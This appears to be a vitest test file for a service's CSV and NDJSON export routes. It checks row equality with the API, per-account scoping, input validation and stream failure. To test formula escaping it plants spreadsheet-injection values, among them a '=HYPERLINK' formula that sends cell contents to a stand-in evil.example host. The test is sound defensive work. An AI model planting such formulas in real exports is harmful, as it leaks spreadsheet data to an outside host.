// Exports (issue 32) through inject(), on both deployments, over the demo data: every export
// parsed by an independent CSV library (csv-parse) equals what the API's own routes say
// (sessions against GET /api/sessions, the scorecard against GET /api/chatters/scorecard, the
// SLA report against GET /api/sla), a scoped key's export holds no other account's row, a cell
// that a spreadsheet would run as a formula comes back escaped (and a negative number does
// not), JSON lines carry the same rows, and bad input is refused before any byte of a file.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { get as httpGet } from 'node:http';
import { Readable } from 'node:stream';
import { StoreUnavailableError } from '../../src/adapters/store/store.js';
import { ReadModelSet } from '../../src/read-models/read-model-set.js';
import type { SessionDoc } from '../../src/read-models/sessions/projection.js';
import type { PaymentDoc } from '../../src/read-models/payments/projection.js';
import { exportStream, formatOf } from '../../src/http/export-stream.js';
import { kafkaMongoEnv, startHarness, type Answer, type Harness } from '../support/app-harness.js';
import { DEPLOYMENTS, type Deployment } from '../support/deployments.js';

const ADMIN = 'admin-token-for-exports-0000000000';
const [A, B] = ['acct_0000000000000000000000000000de01', 'acct_0000000000000000000000000000de02'];
const FORMULA_CHAT = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

type Cells = Record<string, string>;

/** What a CSV cell holds for an API value: numbers as written, booleans as words, null empty. */
const cell = (v: unknown): string => (v === null || v === undefined ? '' : typeof v === 'string' ? v : String(v));

function csvRows(text: string): Cells[] {
  return parse(text, { columns: true, bom: false, relax_quotes: false, record_delimiter: '\r\n' }) as Cells[];
}

const ndjsonRows = (text: string): Record<string, unknown>[] => text.split('\n').filter((l) => l.length > 0).map((l) => JSON.parse(l) as Record<string, unknown>);

describe.each(DEPLOYMENTS)('exports on %s', (kind: Deployment) => {
  let app: Harness;
  let viewerA = '';
  const get = (path: string, token = ADMIN, headers: Record<string, string> = {}): Promise<Answer<any>> => app.call('GET', path, { token, headers });
  /** JSON lines, read as text (the harness would parse a body whose type says json as one document). */
  const getLines = async (path: string, token = ADMIN): Promise<{ status: number; headers: Record<string, unknown>; text: string }> => {
    const res = await app.inject({ method: 'GET', url: path, headers: { authorization: `Bearer ${token}`, accept: 'application/x-ndjson' } });
    return { status: res.statusCode, headers: res.headers, text: res.body };
  };

  beforeAll(async () => {
    app = await startHarness({ ...(kind === 'kafka+mongo' ? await kafkaMongoEnv() : {}), ADMIN_TOKEN: ADMIN, ALERT_SWEEP_SEC: '0' }, { driven: kind !== 'kafka+mongo' });
    // Office hours for B before its records arrive (each session is measured by the schedule in
    // force when its records are received): with clock=business its waits count only those.
    expect((await app.call('POST', '/api/admin/accounts', { token: ADMIN, body: { id: B, displayName: 'B' } })).status).toBe(201);
    const hours = await app.call('PUT', `/api/admin/accounts/${B}/business-hours`, { token: ADMIN, body: { timezone: 'Europe/Berlin', weekly: Object.fromEntries(['mon', 'tue', 'wed', 'thu', 'fri'].map((d) => [d, [['09:00', '17:00']]])) } });
    expect(hours.status, hours.text).toBe(200);
    expect((await app.call('POST', '/api/admin/seed-demo', { token: ADMIN, body: { timeline: 'original' } })).status).toBe(200);
    await app.settled();
    const key = await app.call('POST', '/api/admin/keys', { token: ADMIN, body: { name: 'A only', role: 'viewer', accounts: [A] } });
    expect(key.status).toBe(201);
    viewerA = key.body.secret as string;
    // Text from outside that a spreadsheet would run, in an account's session and payment
    // (written to the read models directly: the door refuses such ids, the export must not rely on it).
    const rm = await new ReadModelSet(app.store).active();
    const base = (await rm.sessions.find({ accountId: A }, { limit: 1 }))[0] as SessionDoc;
    await rm.sessions.insertOne({ ...base, _id: `${A}:formula:1`, sessionId: `${A}:formula:1`, chatId: FORMULA_CHAT, chatKey: `${A}:formula`, firstResponderId: '@SUM(1)', lastHumanChatterId: '+1', revenueCents: -250 });
    const payment = (await rm.payments.find({ accountId: A }, { limit: 1 }))[0] as PaymentDoc;
    await rm.payments.insertOne({ ...payment, _id: `${A}:formula-pay`, paymentId: 'formula-pay', kind: '-2' as never, chatterId: '\tcmd', netCents: -250 });
  }, 240_000);
  afterAll(async () => { await app?.stop(); });

  it('sessions.csv: RFC 4180 with a header row and CRLF, every session once, each row equal to GET /api/sessions', async () => {
    const res = await get('/api/exports/sessions.csv');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="sessions-beginning-now.csv"');
    expect(res.text.endsWith('\r\n')).toBe(true);
    expect(res.text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const rows = csvRows(res.text);
    expect(res.text.slice(0, res.text.indexOf('\r\n'))).toBe(Object.keys(rows[0] ?? {}).join(','));
    // Oldest opened first.
    const opened = rows.map((r) => r.openedAt ?? '');
    expect(opened).toEqual([...opened].sort());
    // Per account, the API lists them all (fewer than its 500 limit).
    let compared = 0;
    for (const account of [A, B, 'acct_0000000000000000000000000000de03']) {
      const api = await get(`/api/sessions?sort=opened&limit=500&accountId=${account}`);
      const items = api.body.items as Record<string, unknown>[];
      expect(items.length).toBeLessThan(500);
      const mine = rows.filter((r) => r.accountId === account);
      expect(mine.map((r) => r.sessionId).sort()).toEqual(items.map((s) => s.id as string).sort());
      const byId = new Map(mine.map((r) => [r.sessionId, r]));
      for (const s of items) {
        const row = byId.get(s.id as string) as Cells;
        const escaped = (v: unknown) => (typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : cell(v));
        for (const f of ['accountId', 'chatId', 'status', 'openedAt', 'closedAt', 'closeReason', 'lastMessageAt', 'messageCount', 'fanMessageCount', 'replyCount', 'awaiting', 'waitingSince', 'firstResponseAt', 'firstResponseSec', 'firstResponderId', 'lastHumanChatterId', 'revenueCents', 'paymentCount', 'fanSpendCents']) {
          expect(row[f], `${s.id as string} ${f}`).toBe(escaped(s[f]));
        }
        compared++;
      }
    }
    expect(compared).toBe(rows.length);
    expect(compared).toBeGreaterThan(50);
  });

  it('escapes a string cell a spreadsheet would run as a formula, and leaves numbers (negative ones too) as numbers', async () => {
    const sessions = csvRows((await get(`/api/exports/sessions.csv?accountId=${A}`)).text);
    const planted = sessions.find((r) => r.sessionId === `${A}:formula:1`);
    expect(planted).toMatchObject({ chatId: `'${FORMULA_CHAT}`, firstResponderId: "'@SUM(1)", lastHumanChatterId: "'+1", revenueCents: '-250' });
    const payments = await get(`/api/exports/payments.csv?accountId=${A}`);
    const pay = csvRows(payments.text).find((r) => r.paymentId === 'formula-pay');
    expect(pay).toMatchObject({ kind: "'-2", chatterId: "'\tcmd", netCents: '-250' });
    // No other cell starts with a formula character, in any export: every one was escaped.
    for (const r of [...sessions, ...csvRows(payments.text)]) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    // JSON lines are data, not a sheet: the values as they are.
    const lines = ndjsonRows((await getLines(`/api/exports/sessions.csv?accountId=${A}`)).text);
    expect(lines.find((l) => l.sessionId === `${A}:formula:1`)).toMatchObject({ chatId: FORMULA_CHAT, firstResponderId: '@SUM(1)', revenueCents: -250 });
  });

  it('NDJSON (Accept: application/x-ndjson): the same rows, one JSON object a line, typed', async () => {
    for (const name of ['sessions', 'payments', 'scorecard', 'sla']) {
      const csv = await get(`/api/exports/${name}.csv?from=2026-01-01`);
      const nd = await getLines(`/api/exports/${name}.csv?from=2026-01-01`);
      expect(nd.status).toBe(200);
      expect(nd.headers['content-type']).toBe('application/x-ndjson');
      expect(nd.headers['content-disposition']).toBe(`attachment; filename="${name}-20260101T000000Z-now.ndjson"`);
      const lines = ndjsonRows(nd.text);
      expect(lines.length).toBeGreaterThan(0);
      const first = lines[0] as Record<string, unknown>;
      if (name === 'sessions') expect([typeof first.messageCount, typeof first.awaiting]).toEqual(['number', 'boolean']);
      if (name === 'payments') expect(typeof first.grossCents).toBe('number');
      expect(lines.map((l) => Object.fromEntries(Object.entries(l).map(([k, v]) => [k, typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : cell(v)]))), name).toEqual(csvRows(csv.text));
    }
    // A browser's Accept, or CSV ranked first, gets CSV.
    expect(formatOf('text/html,application/xhtml+xml,*/*;q=0.8')).toBe('csv');
    expect(formatOf('text/csv, application/x-ndjson;q=0.5')).toBe('csv');
    expect(formatOf('application/x-ndjson')).toBe('ndjson');
  });

  it('a window: the sessions opened and the payments paid in it, with the window in the file name', async () => {
    const all = csvRows((await get('/api/exports/sessions.csv')).text);
    const times = all.map((r) => r.openedAt ?? '').sort();
    const [from, to] = [times[Math.floor(times.length / 4)] as string, times[Math.floor(times.length / 2)] as string];
    const res = await get(`/api/exports/sessions.csv?from=${from}&to=${to}`);
    const compact = (t: string) => t.replace(/[-:]/g, '').replace(/\.000Z$/, 'Z');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="sessions-${compact(from)}-${compact(to)}.csv"`);
    expect(csvRows(res.text).map((r) => r.sessionId).sort()).toEqual(all.filter((r) => (r.openedAt ?? '') >= from && (r.openedAt ?? '') < to).map((r) => r.sessionId).sort());
    const payments = csvRows((await get('/api/exports/payments.csv')).text);
    const paid = csvRows((await get(`/api/exports/payments.csv?from=${from}&to=${to}`)).text);
    expect(paid.map((r) => r.paymentId).sort()).toEqual(payments.filter((r) => (r.paidAt ?? '') >= from && (r.paidAt ?? '') < to).map((r) => r.paymentId).sort());
    expect(payments.length).toBeGreaterThan(paid.length);
  });

  it('scorecard.csv and sla.csv: the report routes\' figures, flattened, on either clock', async () => {
    const wallB = csvRows((await get(`/api/exports/sla.csv?accountId=${B}&from=2026-01-01`)).text);
    const businessB = csvRows((await get(`/api/exports/sla.csv?accountId=${B}&from=2026-01-01&clock=business`)).text);
    expect(businessB.map((r) => r.clock)).toEqual(businessB.map(() => 'business'));
    expect(businessB.map((r) => r.medianFirstResponseSec)).not.toEqual(wallB.map((r) => r.medianFirstResponseSec));
    for (const q of ['', '?from=2026-01-01&thresholdSec=120', `?accountId=${B}`, `?accountId=${B}&from=2026-01-01&clock=business`, '?from=2026-01-01&clock=business']) {
      const api = (await get(`/api/chatters/scorecard${q}`)).body;
      const rows = csvRows((await get(`/api/exports/scorecard.csv${q}`)).text);
      expect(rows.length).toBe(api.items.length);
      expect(rows.length).toBeGreaterThan(0);
      api.items.forEach((item: any, i: number) => {
        const flat = { chatterId: item.chatterId, thresholdSec: api.thresholdSec, clock: api.clock, sessions: item.sessions, revenueCents: item.revenueCents, paymentCount: item.paymentCount, openAlerts: item.openAlerts, revenuePerDirectMessageCents: item.revenuePerDirectMessageCents, unlockRatioPct: item.unlockRatioPct, coachPriority: item.coachPriority, coachReasons: item.coachReasons.map((x: { kind: string; points: number; text: string }) => `${x.kind} ${x.points}: ${x.text}`).join('; '), ...Object.fromEntries(Object.entries(item.sla).map(([k, v]) => [`sla${k[0]?.toUpperCase()}${k.slice(1)}`, v])) };
        expect(rows[i]).toEqual(Object.fromEntries(Object.entries(flat).map(([k, v]) => [k, cell(v)])));
      });
      const sla = (await get(`/api/sla${q}`)).body;
      const slaRows = csvRows((await get(`/api/exports/sla.csv${q}`)).text);
      const figures = (f: any) => ({ thresholdSec: sla.thresholdSec, clock: sla.clock, sessions: f.sessions, responded: f.responded, withinThreshold: f.withinThreshold, breaches: f.breaches, missed: f.missed, pending: f.pending, withinThresholdPct: f.withinThresholdPct, medianFirstResponseSec: f.medianFirstResponseSec, p90FirstResponseSec: f.p90FirstResponseSec });
      const expected = [
        { level: 'total', accountId: sla.accountId, chatterId: null, ...figures(sla) },
        ...sla.byAccount.map((a: any) => ({ level: 'account', accountId: a.accountId, chatterId: null, ...figures(a) })),
        ...sla.byChatter.map((c: any) => ({ level: 'chatter', accountId: null, chatterId: c.chatterId, ...figures(c) })),
      ].map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, cell(v)])));
      expect(slaRows).toEqual(expected);
      expect(slaRows.length).toBeGreaterThan(2);
    }
  });

  it('a scoped key\'s exports hold its accounts\' rows only, the same as an admin\'s export of that account', async () => {
    for (const name of ['sessions', 'payments']) {
      const scoped = csvRows((await get(`/api/exports/${name}.csv`, viewerA)).text);
      expect(scoped.length).toBeGreaterThan(0);
      expect(new Set(scoped.map((r) => r.accountId))).toEqual(new Set([A]));
      expect(scoped).toEqual(csvRows((await get(`/api/exports/${name}.csv?accountId=${A}`)).text));
      const everyone = csvRows((await get(`/api/exports/${name}.csv`)).text);
      expect(everyone.length).toBeGreaterThan(scoped.length);
    }
    const sla = csvRows((await get('/api/exports/sla.csv', viewerA)).text);
    expect(sla.filter((r) => r.level === 'account').map((r) => r.accountId)).toEqual([A]);
    expect(sla).toEqual(csvRows((await get(`/api/exports/sla.csv?accountId=${A}`)).text).map((r) => (r.level === 'total' ? { ...r, accountId: '' } : r)));
    const card = csvRows((await get('/api/exports/scorecard.csv', viewerA)).text);
    const apiCard = (await get('/api/chatters/scorecard', viewerA)).body;
    expect(card.map((r) => r.chatterId)).toEqual(apiCard.items.map((i: any) => i.chatterId));
    expect(card.map((r) => r.revenueCents)).toEqual(apiCard.items.map((i: any) => String(i.revenueCents)));
    // Another account's id is answered as one that does not exist, before any byte of a file.
    for (const name of ['sessions', 'payments', 'scorecard', 'sla']) {
      const other = await get(`/api/exports/${name}.csv?accountId=${B}`, viewerA);
      expect(other.status, name).toBe(404);
      expect(other.headers['content-type']).toMatch(/^application\/json/);
      expect(other.headers['content-disposition']).toBeUndefined();
    }
  });

  it('refuses bad input with the catalogue\'s 400 naming the field, not a file', async () => {
    for (const [q, field] of [
      ['from=2026-02-30', 'from'], ['from=yesterday', 'from'], ['to=2026-11-23T09:00:00', 'to'], ['from=2026-11-24&to=2026-11-23', 'to'],
      ['acountId=x', 'acountId'], ['format=csv', 'format'],
    ] as const) {
      for (const name of ['sessions', 'payments', 'scorecard', 'sla']) {
        const res = await get(`/api/exports/${name}.csv?${q}`);
        expect(res.status, `${name} ${q}`).toBe(400);
        expect(res.body).toMatchObject({ code: 'INVALID_INPUT' });
        expect(res.body.message, `${name} ${q}`).toMatch(new RegExp(`\\b${field}\\b`));
        expect(res.headers['content-disposition']).toBeUndefined();
      }
    }
    const threshold = await get('/api/exports/sla.csv?thresholdSec=0');
    expect(threshold.status).toBe(400);
    expect(threshold.body.message).toContain('thresholdSec');
  });

  // Once: the failure is injected in the route's read, the same on both stores.
  if (kind === 'embedded') it('a store that fails midway: a status while nothing is sent, a cut-off transfer (never a complete-looking file) after', async () => {
    const sessions = (await new ReadModelSet(app.store).active()).sessions;
    const docs = await sessions.find({}, { limit: 100 });
    const failingAfter = (rows: number) => async function* () {
      for (let i = 0; i < rows; i++) yield docs[i % docs.length] as SessionDoc;
      throw new StoreUnavailableError('connection lost');
    };
    const reads = vi.spyOn(sessions, 'iterate');
    try {
      // Before the first 64 KiB went out: nothing is sent yet, so the answer is the catalogue's 503.
      reads.mockImplementationOnce(failingAfter(20));
      const early = await get('/api/exports/sessions.csv');
      expect(early.status).toBe(503);
      expect(early.body).toMatchObject({ code: 'NOT_READY' });
      expect(early.headers['content-disposition']).toBeUndefined();
      // At the first read: the same, and nothing says "file".
      reads.mockImplementationOnce(failingAfter(0));
      const first = await get('/api/exports/sessions.csv');
      expect(first.status).toBe(503);
      expect(first.headers['content-disposition']).toBeUndefined();
      expect(first.headers['cache-control']).toBeUndefined();
      // After: the status is out; the transfer is cut off, as a client over a real socket sees it.
      reads.mockImplementationOnce(failingAfter(5_000));
      const address = await app.app.listen({ port: 0, host: '127.0.0.1' });
      const seen = await new Promise<{ status: number; bytes: number; complete: boolean; error: string | null }>((resolve) => {
        const req = httpGet(`${address}/api/exports/sessions.csv`, { headers: { authorization: `Bearer ${ADMIN}` } }, (res) => {
          let bytes = 0;
          let error: string | null = null;
          res.on('data', (c: Buffer) => { bytes += c.length; });
          res.on('error', (err) => { error = err.message; });
          res.on('close', () => resolve({ status: res.statusCode ?? 0, bytes, complete: res.complete, error }));
        });
        req.on('error', (err) => resolve({ status: 0, bytes: 0, complete: false, error: err.message }));
      });
      expect(seen.status).toBe(200);
      expect(seen.bytes).toBeGreaterThan(64 * 1024);
      expect(seen.complete).toBe(false);
      expect(seen.error).not.toBeNull();
    } finally {
      reads.mockRestore();
    }
  });

  it('an empty window is a header row alone; HEAD reads nothing', async () => {
    const res = await get('/api/exports/sessions.csv?from=2001-01-01&to=2001-01-02');
    expect(res.status).toBe(200);
    expect(res.text).toBe('sessionId,accountId,chatId,status,openedAt,closedAt,closeReason,lastMessageAt,messageCount,fanMessageCount,replyCount,awaiting,waitingSince,firstFanMessageAt,firstResponseAt,firstResponseSec,firstResponseBusinessSec,waitBusinessSec,firstResponderId,lastHumanChatterId,revenueCents,paymentCount,fanSpendCents\r\n');
    // The embedded store hands out one collection object per name: its reads can be counted.
    const sessions = (await new ReadModelSet(app.store).active()).sessions;
    const reads = vi.spyOn(sessions, 'iterate');
    const head = await app.inject({ method: 'HEAD', url: '/api/exports/sessions.csv', headers: { authorization: `Bearer ${ADMIN}` } });
    expect(head.statusCode).toBe(200);
    expect(head.headers['content-disposition']).toBe('attachment; filename="sessions-beginning-now.csv"');
    expect(head.body).toBe('');
    if (kind === 'embedded') {
      expect(reads).not.toHaveBeenCalled();
      await get('/api/exports/sessions.csv');
      expect(reads).toHaveBeenCalledOnce();
    }
    reads.mockRestore();
  });
});

describe('the export stream', () => {
  const read = (stream: Readable): Promise<{ text: string; error: Error | null }> => new Promise((resolve) => {
    let text = '';
    stream.on('data', (c: Buffer) => { text += c.toString('utf8'); });
    stream.on('end', () => resolve({ text, error: null }));
    stream.on('error', (error) => resolve({ text, error }));
  });

  it('quotes what RFC 4180 needs quoted and escapes formulas in strings only', async () => {
    const rows = (async function* () {
      yield { a: 'plain', b: 'with, comma', c: 'say "hi"', d: 'two\r\nlines', e: -3.5, f: '-3.5', g: true, h: null };
      yield { a: '=1+1', b: '+1', c: '@x', d: '\tx', e: 0, f: '\uFF1D1', g: false, h: '' };
      // A bare line feed or carriage return would end the row, and start the next with a formula.
      yield { a: 'x\n=HYPERLINK("http://evil")', b: 'p\rq', c: '', d: '', e: 1, f: '', g: true, h: '' };
    })();
    const { text, error } = await read(exportStream(rows, { format: 'csv', columns: ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'] }));
    expect(error).toBeNull();
    expect(text).toBe([
      'a,b,c,d,e,f,g,h',
      'plain,"with, comma","say ""hi""","two\r\nlines",-3.5,\'-3.5,true,',
      '\'=1+1,\'+1,\'@x,\'\tx,0,\'\uFF1D1,false,',
      '"x\n=HYPERLINK(""http://evil"")","p\rq",,,1,,true,',
      '',
    ].join('\r\n'));
    expect(parse(text, { columns: true })).toEqual([
      { a: 'plain', b: 'with, comma', c: 'say "hi"', d: 'two\r\nlines', e: '-3.5', f: "'-3.5", g: 'true', h: '' },
      { a: "'=1+1", b: "'+1", c: "'@x", d: "'\tx", e: '0', f: "'\uFF1D1", g: 'false', h: '' },
      { a: 'x\n=HYPERLINK("http://evil")', b: 'p\rq', c: '', d: '', e: '1', f: '', g: 'true', h: '' },
    ]);
  });

  it('a store failure midway ends the stream with the error, after the rows before it (the HTTP answer is cut off)', async () => {
    let ended = null as [Error | null, number] | null;
    const rows = (async function* () {
      for (let i = 0; i < 3000; i++) yield { n: i, text: 'x'.repeat(40) };
      throw new Error('store went away');
    })();
    const { text, error } = await read(exportStream(rows, { format: 'csv', columns: ['n', 'text'], onEnd: (err, count) => { ended = [err, count]; } }));
    expect(error?.message).toBe('store went away');
    expect(text.startsWith('n,text\r\n0,')).toBe(true);
    expect(text.length).toBeGreaterThan(64 * 1024);
    await new Promise((r) => setImmediate(r));
    expect(ended?.[0]?.message).toBe('store went away');
    expect(ended?.[1]).toBe(3000);
  });
});
